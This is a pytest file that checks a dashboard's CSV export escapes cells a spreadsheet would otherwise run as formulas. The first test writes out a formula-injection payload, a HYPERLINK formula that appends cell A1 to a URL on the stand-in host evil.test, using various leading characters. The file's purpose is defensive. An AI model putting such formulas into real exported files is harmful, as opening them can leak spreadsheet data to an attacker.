"""What a spreadsheet makes of a downloaded table."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from caravan_dashboard import runs
from caravan_dashboard.csv_file import as_csv


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_text_that_would_be_a_formula_is_text(start):
    formula = f'{start}HYPERLINK("http://evil.test/"&A1,"a, b")'
    written = as_csv(pd.DataFrame([{"tag": formula, start: "fine"}]))
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert rows == [["tag", f"'{start}"], [f"'{formula}", "fine"]]


def test_numbers_and_what_is_missing_stay_as_they_are():
    table = pd.DataFrame([{"low": -0.5, "n": -3, "at": None}, {"low": 1e-9, "n": 4, "at": "now"}])
    assert as_csv(table) == '"low","n","at"\n-0.5,-3,""\n1e-09,4,"now"\n'
    assert as_csv(runs.as_table([], {})) == "\n"
